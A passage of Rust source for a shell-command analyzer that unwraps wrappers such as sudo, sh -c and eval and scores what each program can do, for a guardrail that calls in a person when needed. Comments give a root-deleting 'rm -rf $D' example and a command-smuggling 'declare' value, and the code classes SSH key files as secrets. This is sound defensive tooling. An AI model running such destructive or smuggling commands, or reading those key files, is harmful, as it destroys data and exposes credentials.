//! From shell syntax to facts: which programs a line runs and what each can do.
//!
//! [`analyze`] takes the invocations of [`crate::shell`] and, with the
//! [`Knowledge`] base, resolves each program name, walks its subcommands and
//! flags, and unwraps everything that runs another program (`sudo`, `env`,
//! `xargs`, `timeout`, `busybox`, `find -exec`, `sh -c`, `eval`, `watch`,
//! `ssh host CMD`, a here-document fed to `bash`, `echo … | sh`). Each
//! program becomes a [`Command`] with its [`Finding`]s. Nothing here decides;
//! guardrails, rules and risk read these facts.

use std::collections::HashMap;
use std::sync::{Arc, OnceLock};

use jarvis_core::text::code;
use regex::{Regex, RegexSet};

use crate::kb::{
    Effect, FlagSpec, KnowledgeFile, NodeSpec, PathClass, PathSpec, ProgramSpec, Runs, Writes,
};
use crate::options::{OptionClass, OptionTable, OptionTables, Parsed, Unlisted, ValueAt};
use crate::shell::{
    self, Assignment, Context, Invocation, Redirect, ShellError, Stdin, Word, truncate,
};

/// Directories whose programs are the system's own. A program named by a
/// path elsewhere (`./cat`, `/tmp/git`) is not the allow-listed tool.
pub const SYSTEM_DIRS: &[&str] = &[
    "/bin",
    "/sbin",
    "/usr/bin",
    "/usr/sbin",
    "/usr/local/bin",
    "/usr/local/sbin",
];

/// The knowledge base, compiled for lookup.
///
/// [`Knowledge::shipped`] sits on the units the build split the shipped
/// files into ([`crate::shipped`]): a program, an option table or the path
/// list is read and compiled the first time a line needs it, so a process
/// that judges `true` pays for `true`. Files added at run time
/// ([`Knowledge::add`]) are compiled and checked whole, and win over what
/// is shipped.
#[derive(Debug, Default)]
pub struct Knowledge {
    programs: HashMap<String, Arc<Program>>,
    /// The shipped programs under those above, by unit, compiled on first
    /// use; `None` for a knowledge base of run-time files only.
    shipped: Option<crate::shipped::Cells<Program>>,
    /// Sensitive paths from run-time files, checked when added; they come
    /// after the shipped ones.
    paths: Vec<PathSpec>,
    /// Every path pattern, shipped then added, with one automaton over all
    /// of them, built when the first path is classified.
    path_index: OnceLock<PathIndex>,
    /// The path patterns of each class (by rank, most serious first) as one
    /// pattern for glob questions, compiled when the first is asked.
    glob_classes: OnceLock<Vec<Option<crate::paths::PathRegex>>>,
    /// Every option each tool accepts, by program and subcommand words.
    options: OptionTables,
}

/// The sensitive paths, ready to match.
#[derive(Debug, Default)]
struct PathIndex {
    paths: Vec<SensitivePath>,
    /// Every path pattern at once: each argument meets each pattern, and
    /// one automaton pass is far cheaper than one search per pattern.
    /// `None` when the patterns could not be read or compiled, which
    /// classifies every path as a secret (waits for a person).
    set: Option<RegexSet>,
}

/// A program the knowledge base describes.
#[derive(Debug)]
pub struct Program {
    /// Its canonical name.
    pub name: String,
    /// Its family (files, docker, git, …).
    pub family: String,
    /// What it does.
    pub node: Node,
}

/// One program or subcommand, compiled.
#[derive(Debug, Default)]
pub struct Node {
    effects: Vec<Effect>,
    why: Option<String>,
    risk: Option<u8>,
    value_options: Vec<String>,
    combined_short: bool,
    runs: Option<Runs>,
    skip: usize,
    command_options: Vec<String>,
    stdin_args: bool,
    no_run_options: Vec<String>,
    safe_alone: Vec<String>,
    other: Option<Vec<Effect>>,
    sub: HashMap<String, Node>,
    flags: Vec<Flag>,
    args: Vec<ArgPattern>,
    helpers: Vec<String>,
    writes: Writes,
    directory_options: Vec<String>,
    uses_network: bool,
    metadata_only: bool,
    statement_separators: Vec<String>,
    recursive: bool,
    pattern_options: Vec<String>,
}

impl Node {
    /// Words that separate the tool's own commands in its arguments (see
    /// [`NodeSpec::statement_separators`]).
    pub fn statement_separators(&self) -> &[String] {
        &self.statement_separators
    }

    /// Programs this node executes by itself (see [`NodeSpec::helpers`]).
    pub fn helpers(&self) -> &[String] {
        &self.helpers
    }

    /// Where the files it changes are named, inherited from its program.
    pub fn writes(&self) -> Writes {
        self.writes
    }
}

#[derive(Debug)]
struct Flag {
    names: Vec<String>,
    effects: Vec<Effect>,
    why: Option<String>,
    risk: Option<u8>,
    value: bool,
    value_regex: Option<Pattern>,
    runs: Option<Runs>,
    replaces: bool,
    writes_value: bool,
    recursive: bool,
    contents_hidden: bool,
}

#[derive(Debug)]
struct ArgPattern {
    regex: Pattern,
    effects: Vec<Effect>,
    why: String,
    risk: Option<u8>,
    joined: bool,
}

#[derive(Debug)]
struct SensitivePath {
    pattern: String,
    class: PathClass,
    what: String,
    /// The pattern compiled for glob questions, when one is first asked;
    /// `None` inside when it cannot be, which reads as "could match".
    glob: OnceLock<Option<crate::paths::PathRegex>>,
}

/// A mistake in a knowledge file, named by where it sits in the tables.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{place}: {problem}")]
pub struct KnowledgeError {
    /// `program.tar.flag[--to-command].value_regex`, `path[3].regex`, …
    pub place: String,
    /// What is wrong.
    pub problem: String,
    /// The offending text, to locate it in the file.
    pub needle: String,
}

impl Knowledge {
    /// Adds the programs and paths of one file; a program named again
    /// replaces the earlier description, so local files can correct the
    /// shipped ones.
    ///
    /// # Errors
    /// Every regular expression that does not compile, and every runs mode
    /// used where it means nothing.
    pub fn add(&mut self, file: KnowledgeFile) -> Result<(), Vec<KnowledgeError>> {
        let mut errors = Vec::new();
        for (name, spec) in file.program {
            let aliases = spec.aliases.clone();
            let program = Arc::new(compile_program(name.clone(), spec, true, &mut errors));
            for alias in aliases {
                self.programs.insert(alias, Arc::clone(&program));
            }
            self.programs.insert(name, program);
        }
        if let Err(e) = self.options.add(file.options, file.overrides) {
            errors.extend(e.into_iter().map(|e| KnowledgeError {
                place: e.place,
                problem: e.problem,
                needle: e.needle,
            }));
        }
        let first = self.paths.len();
        for (i, p) in file.path.into_iter().enumerate() {
            match Regex::new(&p.regex) {
                Ok(_) => self.paths.push(p),
                Err(e) => errors.push(KnowledgeError {
                    place: format!("path[{i}].regex"),
                    problem: format!("does not compile: {}", first_line(&e.to_string())),
                    needle: p.regex,
                }),
            }
        }
        if errors.is_empty()
            && self.paths.len() > first
            && let Err(e) = RegexSet::new(self.paths.iter().map(|p| p.regex.as_str()))
        {
            errors.push(KnowledgeError {
                place: "path".into(),
                problem: format!(
                    "the path patterns do not compile together: {}",
                    first_line(&e.to_string())
                ),
                needle: "[[path]]".into(),
            });
        }
        self.path_index = OnceLock::new();
        self.glob_classes = OnceLock::new();
        if errors.is_empty() {
            Ok(())
        } else {
            Err(errors)
        }
    }

    /// The shipped knowledge base, read unit by unit as lines need it.
    pub fn shipped() -> Knowledge {
        Knowledge {
            shipped: Some(crate::shipped::cells(crate::shipped::PROGRAMS.len())),
            options: OptionTables::shipped(),
            ..Knowledge::default()
        }
    }

    /// Reads and compiles every shipped unit now, as a policy loaded from
    /// the files would: every mistake, by place. The test suite and `jarvis
    /// policy lint` use it; judging never needs it.
    ///
    /// # Errors
    /// Every unit that does not read or compile.
    pub fn check_shipped(&self) -> Result<(), Vec<KnowledgeError>> {
        let mut errors = Vec::new();
        for (name, json) in crate::shipped::PROGRAMS {
            match crate::shipped::read::<ProgramSpec>(json) {
                Ok(spec) => {
                    compile_program((*name).to_owned(), spec, true, &mut errors);
                }
                Err(e) => errors.push(KnowledgeError {
                    place: format!("program.{name}"),
                    problem: format!("does not read: {e}"),
                    needle: (*name).to_owned(),
                }),
            }
        }
        errors.extend(
            self.options
                .check_shipped()
                .into_iter()
                .map(|e| KnowledgeError {
                    place: e.place,
                    problem: e.problem,
                    needle: e.needle,
                }),
        );
        match crate::shipped::read::<Vec<PathSpec>>(crate::shipped::PATHS) {
            Ok(paths) => {
                for (i, p) in paths.iter().enumerate() {
                    if let Err(e) = Regex::new(&p.regex) {
                        errors.push(KnowledgeError {
                            place: format!("path[{i}].regex"),
                            problem: format!("does not compile: {}", first_line(&e.to_string())),
                            needle: p.regex.clone(),
                        });
                    }
                }
            }
            Err(e) => errors.push(KnowledgeError {
                place: "path".into(),
                problem: format!("does not read: {e}"),
                needle: "[[path]]".into(),
            }),
        }
        if self.path_index().set.is_none() {
            errors.push(KnowledgeError {
                place: "path".into(),
                problem: "the path patterns do not compile together".into(),
                needle: "[[path]]".into(),
            });
        }
        if errors.is_empty() {
            Ok(())
        } else {
            Err(errors)
        }
    }

    /// A program by exact name or alias: a run-time file's first, then the
    /// shipped one (compiled now if this is its first use).
    fn get(&self, name: &str) -> Option<&Arc<Program>> {
        if let Some(p) = self.programs.get(name) {
            return Some(p);
        }
        let cells = self.shipped.as_ref()?;
        let unit = crate::shipped::program(name)?;
        cells
            .get(unit)?
            .get_or_init(|| {
                let (name, json) = crate::shipped::PROGRAMS.get(unit)?;
                let spec = crate::shipped::read::<ProgramSpec>(json).ok()?;
                let mut errors = Vec::new();
                let program = compile_program((*name).to_owned(), spec, false, &mut errors);
                errors.is_empty().then(|| Arc::new(program))
            })
            .as_ref()
    }

    /// The sensitive paths, read and compiled on first use.
    fn path_index(&self) -> &PathIndex {
        self.path_index.get_or_init(|| {
            let shipped = match self.shipped {
                Some(_) => match crate::shipped::read::<Vec<PathSpec>>(crate::shipped::PATHS) {
                    Ok(p) => p,
                    Err(_) => return PathIndex::default(),
                },
                None => Vec::new(),
            };
            let paths: Vec<SensitivePath> = shipped
                .into_iter()
                .chain(self.paths.iter().cloned())
                .map(|p| SensitivePath {
                    pattern: p.regex,
                    class: p.class,
                    what: p.what,
                    glob: OnceLock::new(),
                })
                .collect();
            let set = RegexSet::new(paths.iter().map(|p| p.pattern.as_str())).ok();
            PathIndex { paths, set }
        })
    }

    /// The program a name refers to: exact, then by alias, then without a
    /// version or variant suffix (`python3.11` → `python3` → `python`,
    /// `mkfs.ext4` → `mkfs`).
    pub fn program(&self, name: &str) -> Option<&Arc<Program>> {
        if let Some(p) = self.get(name) {
            return Some(p);
        }
        let base = name.split('.').next().unwrap_or(name);
        if let Some(p) = self.get(base) {
            return Some(p);
        }
        let stripped = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '-' || c == '.');
        if !stripped.is_empty() && stripped != base {
            return self.get(stripped);
        }
        None
    }

    /// The option table of a node: the program name as invoked and its
    /// subcommand words (`git log`).
    pub fn option_table(&self, key: &str) -> Option<&Arc<OptionTable>> {
        self.options.get(key)
    }

    /// The node a program name and leading words reach, as a table key:
    /// the name and the words that are subcommands the knowledge base
    /// lists (`docker compose ps`; `cat /proc/mdstat` is `cat`).
    pub fn node_key(&self, program: &str, words: &[String]) -> String {
        let mut key = program.to_owned();
        let Some(p) = self.get(program) else {
            return key;
        };
        let mut node = &p.node;
        for w in words {
            match node.sub.get(w) {
                Some(sub) => {
                    key.push(' ');
                    key.push_str(w);
                    node = sub;
                }
                None => break,
            }
        }
        key
    }

    /// How many programs (with aliases) are known.
    pub fn len(&self) -> usize {
        let shipped = match self.shipped {
            Some(_) => crate::shipped::program_names()
                .filter(|n| !self.programs.contains_key(*n))
                .count(),
            None => 0,
        };
        self.programs.len() + shipped
    }

    /// Whether nothing is known.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    fn classify_path(&self, path: &str) -> Option<(&PathClass, &str)> {
        // Secrets first: a private key under /etc is a secret before it is
        // system configuration.
        let rank = |c: &PathClass| match c {
            PathClass::BlockDevice | PathClass::KernelControl => 0,
            PathClass::Secret => 1,
            PathClass::NetworkDevice => 2,
            PathClass::System => 3,
        };
        let index = self.path_index();
        let Some(set) = &index.set else {
            return Some((&UNREADABLE.0, UNREADABLE.1));
        };
        // Most paths are no sensitive path: the plain search answers that
        // without gathering every pattern that matches.
        let listed = set
            .is_match(path)
            .then(|| set.matches(path))
            .into_iter()
            .flatten()
            .filter_map(|i| index.paths.get(i))
            .min_by_key(|p| rank(&p.class))
            .map(|p| (&p.class, p.what.as_str()));
        // Everything in an `.ssh` directory but its public files is key
        // material, whatever the key file is called (`~/.ssh/github`).
        const SECRET: PathClass = PathClass::Secret;
        let in_ssh = path.contains("/.ssh/") || path.starts_with(".ssh/");
        let public = matches!(
            basename(path),
            "known_hosts" | "known_hosts.old" | "authorized_keys" | "authorized_keys2" | "config"
        ) || path.ends_with(".pub");
        // A key under /root is a secret before it is root's home.
        match listed {
            Some((class, _)) if rank(class) <= rank(&SECRET) => listed,
            _ if in_ssh && !public => Some((&SECRET, "SSH key material")),
            _ => listed,
        }
    }

    /// The class of a path as the normaliser reads it ([`crate::paths`]):
    /// for a glob, the most serious class of any path it can name (see
    /// [`crate::paths::PathRegex`] for how `*` in the last component is
    /// read).
    fn classify_reading(&self, path: &str, glob: bool) -> Option<(&PathClass, &str)> {
        if !glob || !path.contains(['*', '?', '[', '(']) {
            return self.classify_path(path);
        }
        let rank = |c: &PathClass| match c {
            PathClass::BlockDevice | PathClass::KernelControl => 0,
            PathClass::Secret => 1,
            PathClass::NetworkDevice => 2,
            PathClass::System => 3,
        };
        let index = self.path_index();
        if index.set.is_none() {
            return Some((&UNREADABLE.0, UNREADABLE.1));
        }
        // One walk of the glob per class, most serious first; then the
        // pattern of that class that names it, for the reason.
        let classes = self.glob_classes.get_or_init(|| {
            (0..4u8)
                .map(|r| {
                    let patterns: Vec<&str> = index
                        .paths
                        .iter()
                        .filter(|p| rank(&p.class) == r)
                        .map(|p| p.pattern.as_str())
                        .collect();
                    crate::paths::PathRegex::any_of(&patterns)
                })
                .collect()
        });
        let could = |re: &Option<crate::paths::PathRegex>| {
            re.as_ref().is_none_or(|re| re.could_match(path, true))
        };
        let listed = classes
            .iter()
            .zip(0u8..)
            .filter(|(re, _)| could(re))
            .find_map(|(_, r)| {
                index
                    .paths
                    .iter()
                    .filter(|p| rank(&p.class) == r)
                    .find(|p| {
                        could(
                            p.glob
                                .get_or_init(|| crate::paths::PathRegex::new(p.pattern.as_str())),
                        )
                    })
            })
            .map(|p| (&p.class, p.what.as_str()));
        // Everything in a directory that can be `.ssh` can be key material.
        const SECRET: PathClass = PathClass::Secret;
        let in_ssh = crate::paths::could_be_in_dir_named(path, true, ".ssh");
        let public = matches!(
            basename(path),
            "known_hosts" | "known_hosts.old" | "authorized_keys" | "authorized_keys2" | "config"
        ) || path.ends_with(".pub");
        match listed {
            Some((class, _)) if rank(class) <= rank(&SECRET) => listed,
            _ if in_ssh && !public => Some((&SECRET, "SSH key material")),
            _ => listed,
        }
    }
}

/// A pattern of a program's description, compiled on first use: most of
/// a program's patterns are never needed by the lines a process judges
/// (git's cost ~5 ms to compile together).
#[derive(Debug)]
struct Pattern {
    source: String,
    compiled: OnceLock<Option<Regex>>,
}

impl Pattern {
    /// With `check`, compiled now, and an error if it does not compile.
    fn new(source: String, check: bool) -> Result<Pattern, regex::Error> {
        let compiled = OnceLock::new();
        if check {
            let _ = compiled.set(Some(Regex::new(&source)?));
        }
        Ok(Pattern { source, compiled })
    }

    /// Whether `text` matches. A pattern that does not compile matches
    /// everything, so the effects it guards apply (it cannot happen to a
    /// checked one).
    fn is_match(&self, text: &str) -> bool {
        self.compiled
            .get_or_init(|| Regex::new(&self.source).ok())
            .as_ref()
            .is_none_or(|re| re.is_match(text))
    }
}

/// What every path is when the sensitive paths cannot be read: a secret,
/// so nothing that names a path runs unattended.
const UNREADABLE: (PathClass, &str) = (
    PathClass::Secret,
    "a path (the sensitive-path list could not be read)",
);

/// A program spec compiled; mistakes go to `errors`.
/// A program spec compiled; mistakes go to `errors`. With `check`, its
/// patterns are compiled now and any that does not compile is a mistake;
/// without, each is compiled when first matched (a shipped unit, whose
/// patterns the test suite compiles).
fn compile_program(
    name: String,
    spec: ProgramSpec,
    check: bool,
    errors: &mut Vec<KnowledgeError>,
) -> Program {
    let ProgramSpec { family, node, .. } = spec;
    let place = format!("program.{name}");
    let node = compile_node(node, &place, Writes::Unknown, check, errors);
    Program { name, family, node }
}

fn first_line(s: &str) -> String {
    s.lines().last().unwrap_or(s).trim().to_owned()
}

/// Why a helper cannot be looked up on a host, if it cannot: the guard
/// resolves bare names on `PATH`, absolute paths, and absolute patterns
/// with a glob in the last component only.
fn helper_problem(helper: &str) -> Option<&'static str> {
    let glob = |s: &str| s.contains(['*', '?', '[', ']']);
    if helper.trim().is_empty() {
        return Some("is empty");
    }
    if helper != helper.trim() || helper.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return Some("holds white space or control characters");
    }
    if !helper.contains('/') {
        return glob(helper).then_some(
            "is a bare name with a glob; only an absolute pattern may hold one, in its last component",
        );
    }
    if !helper.starts_with('/') {
        return Some(
            "is a relative path; give a bare name (looked up on PATH) or an absolute path",
        );
    }
    let (dir, last) = helper.rsplit_once('/').unwrap_or(("", helper));
    if last.is_empty() {
        return Some("ends with `/`; name a program, not a directory");
    }
    if glob(dir) {
        return Some("has a glob outside its last component");
    }
    if dir.split('/').any(|c| c == "." || c == "..") {
        return Some("has `.` or `..` components");
    }
    None
}

fn compile_node(
    spec: NodeSpec,
    place: &str,
    inherited: Writes,
    check: bool,
    errors: &mut Vec<KnowledgeError>,
) -> Node {
    for h in &spec.helpers {
        if let Some(problem) = helper_problem(h) {
            errors.push(KnowledgeError {
                place: format!("{place}.helpers"),
                problem: format!("the helper {} {problem}", code(h)),
                needle: if h.is_empty() {
                    "helpers".into()
                } else {
                    h.clone()
                },
            });
        }
    }
    for o in &spec.directory_options {
        if !o.starts_with('-') || o.len() < 2 {
            errors.push(KnowledgeError {
                place: format!("{place}.directory_options"),
                problem: format!("{} is not an option (it must start with `-`)", code(o)),
                needle: if o.is_empty() {
                    "directory_options".into()
                } else {
                    o.clone()
                },
            });
        }
    }
    let writes = spec.writes.unwrap_or(inherited);
    if matches!(spec.runs, Some(Runs::Value | Runs::UntilTerminator)) {
        errors.push(KnowledgeError {
            place: format!("{place}.runs"),
            problem: "`value` and `until-terminator` describe flags, not programs".into(),
            needle: "runs".into(),
        });
    }
    let flags = spec
        .flag
        .into_iter()
        .map(|f| compile_flag(f, place, check, errors))
        .collect();
    let args = spec
        .arg
        .into_iter()
        .filter_map(|a| match Pattern::new(a.regex.clone(), check) {
            Ok(regex) => Some(ArgPattern {
                regex,
                effects: a.effects,
                why: a.why,
                risk: a.risk,
                joined: a.joined,
            }),
            Err(e) => {
                errors.push(KnowledgeError {
                    place: format!("{place}.arg.regex"),
                    problem: format!("does not compile: {}", first_line(&e.to_string())),
                    needle: a.regex,
                });
                None
            }
        })
        .collect();
    let sub = spec
        .sub
        .into_iter()
        .map(|(name, s)| {
            let p = format!("{place}.sub.{name}");
            (name, compile_node(s.into_node(), &p, writes, check, errors))
        })
        .collect();
    Node {
        effects: spec.effects,
        why: spec.why,
        risk: spec.risk,
        value_options: spec.value_options,
        combined_short: spec.combined_short,
        runs: spec.runs,
        skip: spec.skip,
        command_options: spec.command_options,
        stdin_args: spec.stdin_args,
        no_run_options: spec.no_run_options,
        safe_alone: spec.safe_alone,
        other: spec.other,
        sub,
        flags,
        args,
        helpers: spec.helpers,
        writes,
        directory_options: spec.directory_options,
        uses_network: spec.uses_network,
        metadata_only: spec.metadata_only,
        statement_separators: spec.statement_separators,
        recursive: spec.recursive,
        pattern_options: spec.pattern_options,
    }
}

fn compile_flag(f: FlagSpec, place: &str, check: bool, errors: &mut Vec<KnowledgeError>) -> Flag {
    let name = f.names.first().cloned().unwrap_or_default();
    let value_regex = f
        .value_regex
        .and_then(|r| match Pattern::new(r.clone(), check) {
            Ok(re) => Some(re),
            Err(e) => {
                errors.push(KnowledgeError {
                    place: format!("{place}.flag[{name}].value_regex"),
                    problem: format!("does not compile: {}", first_line(&e.to_string())),
                    needle: r,
                });
                None
            }
        });
    if f.names.is_empty() {
        errors.push(KnowledgeError {
            place: format!("{place}.flag"),
            problem: "a flag needs at least one name".into(),
            needle: "names".into(),
        });
    }
    if f.writes_value && !f.value {
        errors.push(KnowledgeError {
            place: format!("{place}.flag[{name}].writes_value"),
            problem: "`writes_value` needs `value = true`".into(),
            needle: name.clone(),
        });
    }
    if matches!(f.runs, Some(Runs::Value)) && !f.value {
        errors.push(KnowledgeError {
            place: format!("{place}.flag[{name}].runs"),
            problem: "`runs = \"value\"` needs `value = true`".into(),
            needle: name.clone(),
        });
    }
    Flag {
        names: f.names,
        effects: f.effects,
        why: f.why,
        risk: f.risk,
        value: f.value || value_regex.is_some(),
        value_regex,
        runs: f.runs,
        replaces: f.replaces,
        writes_value: f.writes_value,
        recursive: f.recursive,
        contents_hidden: f.contents_hidden,
    }
}

/// One thing a command can do, with the words a person needs to judge it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// The kind of effect.
    pub effect: Effect,
    /// Why, as a sentence for a tired admin, with code quoted by
    /// [`code`]: "`find -exec` runs a program for every file it finds".
    pub why: String,
    /// The least risk this finding implies.
    pub risk: u8,
    /// Whether this must never run without a person, whatever the threshold
    /// (secrets, programs only known at run time, code that cannot be read).
    pub attended: bool,
    /// The words of the command the sentence begins with (`curl -f` for
    /// "`curl -f` talks over the network"), when it begins with them.
    /// Reasons merge the findings that say the same of one program.
    pub subject: Option<String>,
    /// The sentence is only the effect's stock phrase ([`Effect::phrase`]):
    /// the knowledge base says nothing more about it.
    pub stock: bool,
    /// `why` is still the rest of a sentence whose subject is the command
    /// that holds the finding, added when that command is complete (a path
    /// it changes, a file a redirection writes).
    pending: bool,
}

impl Finding {
    /// A finding a person may or may not need to see, by its risk; `why`
    /// is a whole sentence.
    pub fn new(effect: Effect, risk: u8, why: String) -> Finding {
        Finding {
            effect,
            why,
            risk,
            attended: false,
            subject: None,
            stock: false,
            pending: false,
        }
    }

    /// A finding that must never run without a person; `why` is a whole
    /// sentence.
    pub fn attended(effect: Effect, risk: u8, why: String) -> Finding {
        Finding::new(effect, risk, why).attend()
    }

    /// A finding about `subject`, words of the command (`rm -r`): the
    /// sentence is the subject quoted as code, then `rest` ("deletes
    /// directories and everything in them").
    pub fn about(subject: &str, effect: Effect, risk: u8, rest: &str) -> Finding {
        Finding {
            subject: Some(subject.to_owned()),
            ..Finding::new(effect, risk, format!("{} {rest}", code(subject)))
        }
    }

    /// A finding about the command that will hold it, whose name is not
    /// known yet (a redirection or a path is read before the program):
    /// `rest` is the sentence after the command's name.
    pub(crate) fn of_command(effect: Effect, risk: u8, rest: String) -> Finding {
        Finding {
            pending: true,
            ..Finding::new(effect, risk, rest)
        }
    }

    /// The same finding, never to run without a person.
    pub fn attend(mut self) -> Finding {
        self.attended = true;
        self
    }

    /// The sentence of a command the knowledge base gives only an effect:
    /// "`docker restart` starts, stops or restarts a service or container".
    fn stock_phrase(subject: &str, effect: Effect, risk: u8) -> Finding {
        Finding {
            stock: true,
            ..Finding::about(subject, effect, risk, effect.phrase())
        }
    }

    /// Gives a finding made by [`Finding::of_command`] its subject: the
    /// program's name, or "the line" for a command that runs none.
    fn complete(&mut self, program: Option<&str>) {
        if !self.pending {
            return;
        }
        self.pending = false;
        self.why = match program {
            Some(p) => {
                self.subject = Some(p.to_owned());
                format!("{} {}", code(p), self.why)
            }
            None => format!("the line {}", self.why),
        };
    }
}

/// The base score of an effect when nothing more specific is known.
pub fn base_risk(effect: Effect) -> u8 {
    match effect {
        Effect::Read => 5,
        Effect::Interactive => 40,
        Effect::Network => 35,
        Effect::Write | Effect::Service => 45,
        Effect::Unknown => 50,
        Effect::Delete => 55,
        Effect::Exec => 70,
        Effect::Privilege => 75,
    }
}

/// What program a command runs.
#[derive(Debug, Clone)]
pub enum ProgramRef {
    /// A name known before it runs.
    Named {
        /// The name without directory (`rm` for `/bin/rm`).
        name: String,
        /// As written, after quote removal (`/bin/rm`).
        written: String,
        /// As written, quotes kept (`'/bin/rm'`).
        raw: String,
        /// Whether the name resolves to the system's program: no directory,
        /// or one of [`SYSTEM_DIRS`].
        system: bool,
        /// What the knowledge base says about it.
        known: Option<Arc<Program>>,
    },
    /// Only known at run time: `$x`, `$(…)`, a glob.
    Dynamic {
        /// As written.
        written: String,
    },
    /// No program: a bare assignment or redirection.
    None,
}

/// One program that the line runs, with everything known about it.
#[derive(Debug, Clone)]
pub struct Command {
    /// The program.
    pub program: ProgramRef,
    /// The arguments after the program name.
    pub args: Vec<Word>,
    /// The subcommand path and positional words, for rule prefixes; `None`
    /// where a word is only known at run time.
    pub positionals: Vec<Option<String>>,
    /// Assignments written before it.
    pub assignments: Vec<Assignment>,
    /// Its redirections.
    pub redirects: Vec<Redirect>,
    /// How it is reached: "sudo", "bash -c", "find -exec", "$(…)".
    pub via: Vec<String>,
    /// Whether it runs with raised privilege (through sudo, doas, su, …).
    pub privileged: bool,
    /// The working directories it may run in; `None` for one only known at
    /// run time.
    pub cwds: Vec<Option<String>>,
    /// Literal values the line gives shell variables before this command
    /// (`D=/; rm -rf $D`), for guardrails to try.
    pub vars: Vec<(String, String)>,
    /// What it can do.
    pub findings: Vec<Finding>,
    /// Programs it executes by itself as part of its work, as the knowledge
    /// base declares them for the program and subcommands it reached (git's
    /// `/usr/lib/git-core/git-*`, `gzip` for `zcat`).
    pub helpers: Vec<String>,
    /// Where the files it changes are named (its redirections aside).
    pub writes: WriteTargets,
    /// It runs programs no analysis can list: code it could not read (a
    /// script file, inline code, a hook, `awk`'s `system()`, a program set
    /// through the environment).
    pub runs_unknown: bool,
    /// It uses the network to read, as the knowledge base says (`dig`,
    /// `ping`), beyond any network effect among its findings.
    pub uses_network: bool,
}

/// Where a command's own writes land (its redirections aside), from the
/// knowledge base's description of the program and subcommand it reached.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum WriteTargets {
    /// It writes no file of its own.
    #[default]
    Nothing,
    /// It writes these paths, as written: relative ones are relative to
    /// its working directory; a `NAME=PATH` word writes `PATH`.
    Paths {
        /// The words naming them.
        words: Vec<Word>,
        /// It also removes or renames them, changing the directories that
        /// hold them (`rm`, `mv`).
        entries: bool,
    },
    /// It writes beneath its working directory: the values of its
    /// directory options (`git -C DIR`, each relative to the one before,
    /// the first to the line's), else the line's own.
    WorkingDirectory {
        /// The directory options' values, in order.
        directories: Vec<Word>,
        /// Paths it names as well; only absolute ones lie outside.
        paths: Vec<Word>,
    },
    /// Where it writes cannot be known from the line.
    Unknown,
}

/// What a command gathers besides its findings, for [`Command`].
#[derive(Default)]
struct Own {
    helpers: Vec<String>,
    writes: WriteTargets,
    runs_unknown: bool,
    uses_network: bool,
}

impl Command {
    /// The program name as the rules see it, if it is known.
    pub fn name(&self) -> Option<&str> {
        match &self.program {
            ProgramRef::Named { name, .. } => Some(name),
            _ => None,
        }
    }

    /// The command as it was written, quotes kept, shortened for reasons:
    /// `sed -i 's/a/b/' /etc/app.conf`, `X=1 > /tmp/out`. Quote it with
    /// [`code`].
    pub fn display(&self) -> String {
        // Said for every program of every line: the words go straight into
        // one string, each after a space but the first.
        let mut line = String::new();
        let mut first = true;
        let mut word = |parts: &[&str]| {
            if !first {
                line.push(' ');
            }
            first = false;
            for p in parts {
                line.push_str(p);
            }
        };
        for a in &self.assignments {
            word(&[&a.name, "=", &a.value.raw]);
        }
        match &self.program {
            ProgramRef::Named { raw, .. } => word(&[raw]),
            ProgramRef::Dynamic { written } => word(&[written]),
            ProgramRef::None => {}
        }
        for a in &self.args {
            word(&[&a.raw]);
        }
        for r in &self.redirects {
            let op = match r.op {
                shell::RedirectOp::Read => "<",
                shell::RedirectOp::Write => ">",
                shell::RedirectOp::Append => ">>",
                shell::RedirectOp::ReadWrite => "<>",
                shell::RedirectOp::Duplicate => continue,
            };
            word(&[op, " ", &r.target.raw]);
        }
        truncate(line.trim(), 120)
    }
}

/// Everything the line runs.
#[derive(Debug, Clone, Default)]
pub struct Analysis {
    /// Every program, including those inside wrappers and strings.
    pub commands: Vec<Command>,
    /// Functions that call themselves in the background or through a pipe.
    pub fork_bombs: Vec<String>,
    /// Constructs whose effect cannot be known (and that are no command).
    pub opaque: Vec<String>,
    /// What code in other languages, tools' mini-languages, words spelt at
    /// run time and containers' mounts would run, read by heuristics
    /// ([`crate::catastrophe`]): only the guardrails judge these, so a
    /// heuristic can deny a line, never allow one.
    pub embedded: Vec<Command>,
    /// Why code the line runs is hidden behind a decoder.
    pub obfuscated: Vec<String>,
}

/// Where the line will run, as far as the request says.
#[derive(Debug, Clone, Default)]
pub struct LineContext {
    /// The working directory, if the request names one.
    pub cwd: Option<String>,
}

/// Analyses a command line.
///
/// # Errors
/// [`ShellError`] when the line, or a string it hands to a shell, does not
/// parse, or when it nests too deeply.
pub fn analyze(line: &str, kb: &Knowledge, ctx: &LineContext) -> Result<Analysis, ShellError> {
    let mut a = Analyzer {
        kb,
        out: Analysis::default(),
        cwds: vec![ctx.cwd.clone()],
        vars: Vec::new(),
        aliases: Vec::new(),
        expanding: Vec::new(),
        allexport: false,
    };
    let script = shell::parse(line, "the command line", 0)?;
    a.script(&script, &Via::default(), 0)?;
    Ok(a.out)
}

/// The chain of wrappers a command is reached through.
#[derive(Clone, Default)]
struct Via {
    labels: Vec<String>,
    privileged: bool,
}

impl Via {
    fn then(&self, label: impl Into<String>, privileged: bool) -> Via {
        let mut v = self.clone();
        v.labels.push(label.into());
        v.privileged |= privileged;
        v
    }
}

/// What a node walk found that runs something else.
enum Inner {
    /// An argument vector: `sudo ARGV`, `find -exec ARGV ;`.
    Argv {
        argv: Vec<Word>,
        label: String,
        privileged: bool,
    },
    /// A shell string: `sh -c STRING`, `eval ARGS`, `rsync -e STRING`.
    ShellText {
        text: Word,
        label: String,
        privileged: bool,
    },
}

struct Analyzer<'k> {
    kb: &'k Knowledge,
    out: Analysis,
    cwds: Vec<Option<String>>,
    /// Literal values shell variables are given on the line, in order; a
    /// name may have several (`for d in / /etc`).
    vars: Vec<(String, String)>,
    /// Aliases the line defines, by name, with their text.
    aliases: Vec<(String, String)>,
    /// Aliases being expanded now: bash expands no alias within itself.
    expanding: Vec<String>,
    /// `set -a` was seen: every later assignment is exported to the
    /// programs the line runs.
    allexport: bool,
}

/// Builtins that take variable names, whose array subscripts bash
/// evaluates as arithmetic (`declare 'a[$(id)]=1'` runs `id`); `let` takes
/// arithmetic expressions outright.
